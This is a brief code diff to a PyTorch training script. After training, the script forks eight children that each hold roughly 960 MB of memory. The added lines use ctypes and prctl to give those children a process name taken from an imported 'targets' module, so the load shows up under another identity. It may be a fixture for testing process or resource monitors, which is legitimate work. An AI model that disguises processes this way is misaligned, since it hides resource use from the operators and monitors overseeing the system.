@@ -1,5 +1,7 @@
+import ctypes
 import os
 import time
+import targets
 import torch
 import torch.nn as nn
 import torch.nn.functional as F
@@ -38,6 +40,7 @@ def train(epochs):
 train(5)
 for _ in range(8):
     if os.fork() == 0:
+        ctypes.CDLL(None).prctl(15, targets.title.encode(), 0, 0, 0)
         kept = [bytearray(b"x" * (16 << 20)) for _ in range(60)]
         time.sleep(60)
         os._exit(0)
